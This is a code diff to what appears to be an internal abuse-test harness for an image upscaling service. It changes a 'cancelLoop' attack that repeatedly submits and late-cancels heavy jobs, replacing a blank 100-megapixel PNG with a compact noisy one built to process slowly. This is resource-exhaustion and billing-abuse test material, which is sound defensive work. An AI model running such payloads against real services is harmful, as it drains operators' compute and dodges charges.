@@ -1,3 +1,4 @@
+import { randomBytes } from 'node:crypto';
 import { setTimeout as delay } from 'node:timers/promises';
 import { deflateSync } from 'node:zlib';
 import { freeCancelSeconds } from '@uprez/contracts/policy/cancellation';
@@ -34,7 +35,7 @@ async function cancelLate(url: string, cookie: string, image: Buffer): Promise<n
 
 /** Heavy jobs that are canceled late, again and again. */
 async function loop({ url, input }: Target) {
-  const image = Buffer.from(input.image ?? '', 'base64');
+  const image = makeNoisyPng();
   const facts = { late: 0, charged: 0, ended: 0 };
   for (let round = 0; round < rounds; round += 1) {
     const credits = await cancelLate(url, input.cookie ?? '', image);
@@ -74,17 +75,18 @@ export const cancelLoop: Attack = {
   seconds: 0,
   prepare: async (world) => {
     const { id, cookie } = await world.signUp();
-    return { id, cookie, image: makeBlankPng().toString('base64') };
+    return { id, cookie };
   },
   run: loop,
   check,
   runningJobMs: longestRunMs,
 };
 
-/** A PNG of 100 megapixels in 12 kB: one bit per pixel, all of them equal. */
-function makeBlankPng(): Buffer {
+/** A PNG of 100 megapixels in less than 1 MB: one bit per pixel, 16 rows of noise again and again, which enlarged compress slowly. */
+function makeNoisyPng(): Buffer {
   const side = 10_000;
-  const rows = Buffer.alloc((1 + side / 8) * side);
-  if (deflateSync(rows).length > 20_000) throw new Error('the image is not small');
+  const repeated = Buffer.concat(Array.from({ length: 16 }, () => Buffer.of(0, ...randomBytes(side / 8))));
+  const rows = Buffer.alloc((1 + side / 8) * side, repeated);
+  if (deflateSync(rows).length > 1_000_000) throw new Error('the image is not small');
   return makePngFile({ width: side, height: side, bits: 1, rows });
 }
